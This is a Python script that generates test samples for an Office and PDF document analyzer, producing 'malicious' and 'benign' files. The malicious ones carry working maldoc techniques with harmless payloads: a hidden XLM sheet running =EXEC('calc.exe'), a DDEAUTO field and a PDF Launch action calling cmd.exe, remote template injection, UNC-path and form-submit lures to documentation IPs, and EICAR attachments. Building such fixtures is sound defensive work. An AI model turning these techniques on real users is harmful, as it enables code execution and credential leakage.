#!/usr/bin/python3
"""Writes Office compound files (OLE2/CFB) for analyze-office.sh into a directory.

Encrypted files are encrypted the way [MS-OFFCRYPTO] lays out, with keys made by
msoffcrypto-tool's own key derivation where it exposes one, and each is checked with
msoffcrypto-tool (decrypted, or its password verified): airlock's reading of them is then
checked against a third-party implementation, not against this script.

Usage: analyze-office.py DIR [DOCX [DOC]]   (real documents from soffice: DOCX is the package
encrypted and given an external template, DOC the object embedded in a benign RTF)
"""
import base64
import hashlib
import io
import os
import struct
import sys
import zipfile
import zlib

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from msoffcrypto.format.ooxml import OOXMLFile
from msoffcrypto.method import rc4 as ms_rc4, rc4_cryptoapi
from msoffcrypto.method.rc4 import DocumentRC4
from msoffcrypto.method.rc4_cryptoapi import DocumentRC4CryptoAPI

SECT = 512
MINI = 64
CUTOFF = 4096
END, FREE, FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def cfb(streams):
    """A version 3 compound file holding streams [(name, bytes)] at the root."""
    big = [(n, d) for n, d in streams if len(d) >= CUTOFF]
    small = [(n, d) for n, d in streams if len(d) < CUTOFF]
    mini = b""
    minifat = []
    starts = {}
    for n, d in small:
        k = (len(d) + MINI - 1) // MINI or 1
        first = len(minifat)
        starts[n] = first
        minifat += [first + i + 1 for i in range(k - 1)] + [END]
        mini += d.ljust(k * MINI, b"\0")
    sectors = []  # payload sectors, in order
    fat = []

    def chain(data):
        k = (len(data) + SECT - 1) // SECT
        first = len(sectors)
        for i in range(k):
            sectors.append(data[i * SECT:(i + 1) * SECT].ljust(SECT, b"\0"))
            fat.append(first + i + 1 if i < k - 1 else END)
        return first if k else END

    for n, d in big:
        starts[n] = chain(d)
    mini_start = chain(mini) if mini else END
    minifat_raw = b"".join(struct.pack("<I", x) for x in minifat)
    minifat_start = chain(minifat_raw) if minifat else END

    def entry(name, typ, child, right, start, size):
        u = (name + "\0").encode("utf-16-le")
        return (u.ljust(64, b"\0") + struct.pack("<HBB", len(u), typ, 1) +
                struct.pack("<III", FREE, right, child) + b"\0" * 16 + b"\0" * 4 +
                b"\0" * 16 + struct.pack("<IQ", start, size))

    dirs = [entry("Root Entry", 5, 1 if streams else FREE, FREE, mini_start, len(mini))]
    for i, (n, d) in enumerate(streams):
        right = i + 2 if i + 1 < len(streams) else FREE
        dirs.append(entry(n, 2, FREE, right, starts[n], len(d)))
    while len(dirs) % 4:
        dirs.append(b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", FREE, FREE, FREE) +
                    b"\0" * 36 + struct.pack("<IQ", 0, 0))
    dir_start = chain(b"".join(dirs))
    n_fat = 1
    while (len(sectors) + n_fat) > n_fat * (SECT // 4):
        n_fat += 1
    fat_ids = list(range(len(sectors), len(sectors) + n_fat))
    fat += [FATSECT] * n_fat
    fat += [FREE] * (n_fat * (SECT // 4) - len(fat))
    fat_raw = b"".join(struct.pack("<I", x) for x in fat)
    hdr = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 +
           struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 +
           struct.pack("<IIIIIIIII", 0, n_fat, dir_start, 0, CUTOFF, minifat_start,
                       len(minifat_raw) // SECT + (1 if len(minifat_raw) % SECT else 0) if minifat else 0,
                       END, 0))
    difat = fat_ids + [FREE] * (109 - len(fat_ids))
    hdr += b"".join(struct.pack("<I", x) for x in difat)
    assert len(hdr) == 512
    return hdr + b"".join(sectors) + fat_raw


def aes_cbc(key, iv, data, decrypt=False):
    c = Cipher(algorithms.AES(key), modes.CBC(iv))
    x = c.decryptor() if decrypt else c.encryptor()
    return x.update(data) + x.finalize()


def agile(package, password):
    """An OOXML package encrypted with agile encryption (SHA-512, AES-256)."""
    H = hashlib.sha512
    key_salt, pw_salt, secret, vin = (os.urandom(16) for _ in range(4))
    secret = os.urandom(32)
    spin = 100000
    h = H(pw_salt + password.encode("utf-16-le")).digest()
    for i in range(spin):
        h = H(struct.pack("<I", i) + h).digest()

    def k(block):
        return H(h + block).digest()[:32]

    enc_vin = aes_cbc(k(b"\xfe\xa7\xd2\x76\x3b\x4b\x9e\x79"), pw_salt, vin)
    enc_vhash = aes_cbc(k(b"\xd7\xaa\x0f\x6d\x30\x61\x34\x4e"), pw_salt, H(vin).digest())
    enc_key = aes_cbc(k(b"\x14\x6e\x0b\xe7\xab\xac\xd0\xd6"), pw_salt, secret)
    out = struct.pack("<Q", len(package))
    for i in range(0, len(package), 4096):
        seg = package[i:i + 4096]
        seg += b"\0" * (-len(seg) % 16)
        iv = H(key_salt + struct.pack("<I", i // 4096)).digest()[:16]
        out += aes_cbc(secret, iv, seg)
    b64 = lambda b: base64.b64encode(b).decode()
    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
           '<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" '
           'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
           '<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
           'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
           'saltValue="%s"/>'
           '<dataIntegrity encryptedHmacKey="%s" encryptedHmacValue="%s"/>'
           '<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
           '<p:encryptedKey spinCount="%d" saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
           'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
           'saltValue="%s" encryptedVerifierHashInput="%s" encryptedVerifierHashValue="%s" '
           'encryptedKeyValue="%s"/></keyEncryptor></keyEncryptors></encryption>' %
           (b64(key_salt), b64(os.urandom(64)), b64(os.urandom(64)), spin, b64(pw_salt),
            b64(enc_vin), b64(enc_vhash), b64(enc_key)))
    info = struct.pack("<HHI", 4, 4, 0x40) + xml.encode()
    f = cfb([("EncryptionInfo", info), ("EncryptedPackage", out)])
    # the third-party check: msoffcrypto-tool opens it with the password, and only with it
    o = OOXMLFile(io.BytesIO(f))
    o.load_key(password=password, verify_password=True)
    dec = io.BytesIO()
    o.decrypt(dec)
    assert dec.getvalue()[:len(package)] == package, "msoffcrypto-tool does not decrypt it"
    return f


def rc4(key, data):
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 255
        s[i], s[j] = s[j], s[i]
    i = j = 0
    out = bytearray()
    for c in data:
        i = (i + 1) & 255
        j = (j + s[i]) & 255
        s[i], s[j] = s[j], s[i]
        out.append(c ^ s[(s[i] + s[j]) & 255])
    return bytes(out)


def rc4_cryptoapi_header(password):
    """EncryptionVersionInfo 4.2 onwards of an RC4 CryptoAPI header (128-bit key)."""
    salt, verifier = os.urandom(16), os.urandom(16)
    key = rc4_cryptoapi._makekey(password, salt, 128, 0)
    enc = rc4(key, verifier + hashlib.sha1(verifier).digest())
    assert DocumentRC4CryptoAPI.verifypw(password, salt, 128, enc[:16], enc[16:]), \
        "msoffcrypto-tool does not verify the header"
    csp = "Microsoft Enhanced Cryptographic Provider v1.0\0".encode("utf-16-le")
    header = struct.pack("<IIIIIIII", 4, 0, 0x6801, 0x8004, 128, 1, 0, 0) + csp
    return (struct.pack("<HHII", 4, 2, 4, len(header)) + header + struct.pack("<I", 16) + salt +
            enc[:16] + struct.pack("<I", 20) + enc[16:])


def rc4_header(password):
    """EncryptionVersionInfo 1.1 onwards of an RC4 header (what LibreOffice writes in .xls)."""
    salt, verifier = os.urandom(16), os.urandom(16)
    enc = rc4(ms_rc4._makekey(password, salt, 0), verifier + hashlib.md5(verifier).digest())
    assert DocumentRC4.verifypw(password, salt, enc[:16], enc[16:]), \
        "msoffcrypto-tool does not verify the header"
    return struct.pack("<HH", 1, 1) + salt + enc


def rec(t, data):
    return struct.pack("<HH", t, len(data)) + data


def bof(dt):
    return rec(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC, 0, 0x0206))


def workbook(sheets, filepass=None):
    """A BIFF8 workbook stream: sheets [(name, hidden state, type, [formula records])]."""
    glob = bof(0x0005)
    if filepass:
        glob += rec(0x002F, struct.pack("<H", 1) + filepass)
    bounds = []
    for name, state, dt, _ in sheets:
        bounds.append(bytearray(struct.pack("<IBBBB", 0, state, dt, len(name), 0) + name.encode()))
    size = len(glob) + sum(4 + len(b) for b in bounds) + 4
    out_sheets = b""
    for b, (name, state, dt, formulas) in zip(bounds, sheets):
        s = bof(0x0040 if dt == 1 else 0x0010) + b"".join(formulas) + rec(0x000A, b"")
        struct.pack_into("<I", b, 0, size + len(out_sheets))
        out_sheets += s
    return glob + b"".join(rec(0x0085, b) for b in bounds) + rec(0x000A, b"") + out_sheets


def formula(rgce):
    return rec(0x0006, struct.pack("<HHH", 0, 0, 15) + b"\0" * 8 + struct.pack("<HIH", 0, 0, len(rgce)) + rgce)


def ptg_str(s):
    return b"\x17" + bytes([len(s), 0]) + s.encode()


def main():
    out = sys.argv[1]
    pkg = None
    os.makedirs(out + "/malicious", exist_ok=True)
    os.makedirs(out + "/benign", exist_ok=True)
    w = lambda p, d: open(os.path.join(out, p), "wb").write(d)
    if len(sys.argv) > 2:
        pkg = open(sys.argv[2], "rb").read()
        zipfile.ZipFile(io.BytesIO(pkg)).testzip()
        w("malicious/velvet-agile.docx", agile(pkg, "VelvetSweatshop"))
        w("malicious/password-agile.docx", agile(pkg, "correct horse 7"))
    w("malicious/velvet-rc4capi.xls",
      cfb([("Workbook", workbook([("Sheet1", 0, 0, [])], rc4_cryptoapi_header("VelvetSweatshop")))]))
    w("malicious/password-rc4capi.xls",
      cfb([("Workbook", workbook([("Sheet1", 0, 0, [])], rc4_cryptoapi_header("s3cret!")))]))
    w("malicious/velvet-rc4.xls",
      cfb([("Workbook", workbook([("Sheet1", 0, 0, [])], rc4_header("VelvetSweatshop")))]))
    w("malicious/password-rc4.xls",
      cfb([("Workbook", workbook([("Sheet1", 0, 0, [])], rc4_header("hunter2")))]))
    # =EXEC("calc.exe") in a very hidden macro sheet: ptgStr, ptgFuncVar(1 argument, EXEC)
    exec_f = formula(ptg_str("calc.exe") + b"\x42\x01" + struct.pack("<H", 110))
    w("malicious/xlm-exec.xls",
      cfb([("Workbook", workbook([("Sheet1", 0, 0, []), ("Macro1", 2, 1, [exec_f])]))]))
    # a visible macro sheet that only adds numbers: =SUM(1,2) (ptgInt, ptgInt, ptgFuncVar SUM)
    sum_f = formula(b"\x1e\x01\x00\x1e\x02\x00\x42\x02" + struct.pack("<H", 4))
    w("malicious/xlm-sheet-hidden.xls",
      cfb([("Workbook", workbook([("Sheet1", 0, 0, []), ("Macro1", 1, 1, [sum_f])]))]))
    shortcuts_and_links(out, pkg)
    pdfs(out)
    rtfs(out, open(sys.argv[3], "rb").read() if len(sys.argv) > 3 else None)
    w("benign/plain.xls", cfb([("Workbook", workbook([("Sheet1", 0, 0, [sum_f])]))]))
    # a Word FIB (wIdent 0xA5EC) and field codes stored as UTF-16LE
    fib = struct.pack("<HH", 0xA5EC, 0x00C1).ljust(0x200, b"\0")

    def field(instr):
        return ("\x13" + instr + "\x14result\x15").encode("utf-16-le")

    dde = fib + "Dear customer, ".encode("utf-16-le") + field(
        ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ') + b"\0" * 64
    w("malicious/dde-utf16.doc", cfb([("WordDocument", dde), ("1Table", b"\0" * 512)]))
    unc = fib + field(' INCLUDEPICTURE "\\\\\\\\203.0.113.9\\\\share\\\\a.png" \\d ') + b"\0" * 64
    w("malicious/includepicture-unc.doc", cfb([("WordDocument", unc), ("1Table", b"\0" * 512)]))
    page = fib + field(' PAGE \\* MERGEFORMAT ') + field(' HYPERLINK "https://www.debian.org/" ')
    w("benign/fields.doc", cfb([("WordDocument", page), ("1Table", b"\0" * 512)]))
    # fEncrypted and fWhichTblStm: the RC4 CryptoAPI header starts the 1Table stream
    enc = bytearray(fib)
    struct.pack_into("<H", enc, 0x0A, 0x0300)
    for name, pw in (("velvet-rc4capi.doc", "VelvetSweatshop"), ("password-rc4capi.doc", "x")):
        hdr = rc4_cryptoapi_header(pw)
        w("malicious/" + name, cfb([("WordDocument", bytes(enc) + b"\0" * 4096),
                                    ("1Table", hdr.ljust(4200, b"\0"))]))

    # OLE Package objects: type 2, label, path, 2 + 2 bytes, temp path, size, the file
    def package(label, data):
        tmp = b"C:\\tmp\\" + label.encode() + b"\0"
        body = (struct.pack("<H", 2) + label.encode() + b"\0" + b"C:\\x\\" + label.encode() +
                b"\0" + struct.pack("<HH", 0, 3) + struct.pack("<I", len(tmp)) + tmp +
                struct.pack("<I", len(data)) + data)
        return struct.pack("<I", len(body)) + body

    eicar = (b"X5O!P%@AP[4\\PZX54(P^)7CC)" + b"7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
    w("malicious/package-eicar.doc",
      cfb([("WordDocument", fib), ("\x01Ole10Native", package("readme.com", eicar))]))
    w("benign/package-text.doc",
      cfb([("WordDocument", fib), ("\x01Ole10Native",
                                   package("notes.txt", b"Meeting at ten.\n" * 300))]))


def pdf(objects):
    """A PDF with the given object bodies (1 0 obj is the catalog) and a sound xref table."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, body in enumerate(objects):
        offs.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, body if isinstance(body, bytes) else body.encode())
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offs)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def pdf_with_action(action):
    return pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>", action])


def objstm(number, body):
    """An object stream (FlateDecode) holding one object."""
    head = b"%d 0 " % number
    data = zlib.compress(head + body.encode())
    return (b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(head), len(data)) + data + b"\nendstream")


def attachment(name, data):
    z = zlib.compress(data)
    return pdf(["<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(%s) 4 0 R] >> >> >>" % name,
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                "<< /Type /Filespec /F (%s) /EF << /F 5 0 R >> >>" % name,
                b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n" % len(z) + z +
                b"\nendstream"])


def pdfs(out):
    w = lambda p, d: open(os.path.join(out, p), "wb").write(d)
    pages = ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
             "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]
    w("malicious/launch-escaped.pdf",
      pdf_with_action("<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"))
    w("malicious/objstm-uri-unc.pdf",
      pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"] + pages +
          [objstm(4, "<< /S /URI /URI (\\\\\\\\203.0.113.5\\\\share\\\\x) >>")]))
    w("benign/objstm-web-link.pdf",
      pdf(["<< /Type /Catalog /Pages 2 0 R >>"] + pages +
          [objstm(5, "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.debian.org/) >> >>")]))
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)" + b"7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    w("malicious/attachment-eicar.pdf", attachment("readme.com", eicar))
    w("benign/attachment-notes.pdf", attachment("notes.txt", b"Minutes of the meeting.\n" * 50))


def shortcuts_and_links(out, docx):
    w = lambda p, d: open(os.path.join(out, p), "wb").write(d)
    w("malicious/invoice.url",
      b"[InternetShortcut]\r\nURL=file://203.0.113.5@80/share/invoice.cpl\r\nIconIndex=0\r\n")
    w("malicious/scan.url",
      b"[InternetShortcut]\r\nURL=file:\\\\203.0.113.5\\share\\scan.zip\r\n")
    w("malicious/icon-unc.url",
      b"[InternetShortcut]\nURL=https://www.debian.org/\nIconFile=\\\\203.0.113.5\\s\\i.ico\nIconIndex=1\n")
    w("benign/debian.url",
      b"[InternetShortcut]\nURL=https://www.debian.org/\nIconFile=C:\\Windows\\System32\\url.dll\n")
    w("malicious/exec.slk", b'ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC("calc.exe")\r\nC;X1;Y2;K0;EHALT()\r\nE\r\n')
    w("benign/sums.slk", b"ID;PWXL;N;E\r\nC;X1;Y1;K1\r\nC;X1;Y2;K2\r\nC;X1;Y3;K3;ESUM(R1C1:R2C1)\r\nE\r\n")
    w("malicious/uri-unc.pdf", pdf_with_action("<< /S /URI /URI (\\\\\\\\203.0.113.5\\\\share\\\\x) >>"))
    w("malicious/gotor-remote.pdf",
      pdf_with_action("<< /S /GoToR /F (\\\\\\\\203.0.113.5\\\\share\\\\a.pdf) /D [0 /Fit] >>"))
    w("malicious/submit-on-open.pdf",
      pdf_with_action("<< /S /SubmitForm /F << /FS /URL /F (http://203.0.113.5/collect) >> /Flags 4 >>"))
    w("benign/uri-web.pdf", pdf_with_action("<< /S /URI /URI (https://www.debian.org/) >>"))
    if docx:
        # template injection: the settings part's relationships point at a remote template
        z = zipfile.ZipFile(io.BytesIO(docx))
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as o:
            for i in z.infolist():
                o.writestr(i, z.read(i.filename))
            for target in ("http://203.0.113.7/tpl.dotm",):
                o.writestr("word/_rels/settings.xml.rels",
                           '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                           '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                           'Target="%s" TargetMode="External"/></Relationships>' % target)
        w("malicious/template-injection.docx", buf.getvalue())
        # a share instead of a web server: the same part, rebuilt
        z2 = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
        buf2 = io.BytesIO()
        with zipfile.ZipFile(buf2, "w", zipfile.ZIP_DEFLATED) as o:
            for i in z2.infolist():
                d = z2.read(i.filename)
                o.writestr(i, d.replace(b"http://203.0.113.7/tpl.dotm", b"\\\\203.0.113.7\\s\\tpl.dotm"))
        w("malicious/template-unc.docx", buf2.getvalue())


def ole1(cls, data):
    """An OLE 1.0 embedded object: version, format 2, class, topic, item, native data."""
    c = cls.encode() + b"\0"
    return (struct.pack("<III", 0x501, 2, len(c)) + c + struct.pack("<II", 0, 0) +
            struct.pack("<I", len(data)) + data)


def rtf_object(cls, data, hexify=lambda h: h):
    h = ole1(cls, data).hex()
    body = hexify("\n".join(h[i:i + 128] for i in range(0, len(h), 128)))
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Report\\par"
            "{\\object\\objemb\\objw2000\\objh1000{\\*\\objclass %s}{\\*\\objdata\n%s\n}"
            "{\\result {\\pict\\wmetafile8 0100}}}\\par}" % (cls, body)).encode()


def nibbles(h):
    """What exploit builders do to the hex: junk control words, empty groups, line breaks."""
    h = h.replace("\n", "")
    return "".join(c + ("{\\*\\dfe}" if i % 7 == 0 else "\\bkmkend " if i % 11 == 0 else
                        " \n" if i % 5 == 0 else "") for i, c in enumerate(h))


def rtfs(out, doc):
    w = lambda p, d: open(os.path.join(out, p), "wb").write(d)
    # an equation object's native data: the MTEF header then a font record (no exploit here)
    eq = struct.pack("<HIHII", 0x1c, 0x00020000, 0, 0, 0) + b"\x03\x01\x01\x03\x0a" + b"\x0a" * 300
    w("malicious/equation-nibble.rtf", rtf_object("Equation.3", eq, nibbles))
    w("malicious/equation.doc", cfb([("WordDocument", struct.pack("<H", 0xA5EC).ljust(512, b"\0")),
                                     ("Equation Native", eq)]))
    link = "OLE2Link"
    w("malicious/ole2link.rtf", rtf_object(link, b"\xd0\xcf\x11\xe0" + b"\0" * 600))
    if doc:
        w("benign/word-object.rtf", rtf_object("Word.Document.8", doc))


if __name__ == "__main__":
    main()
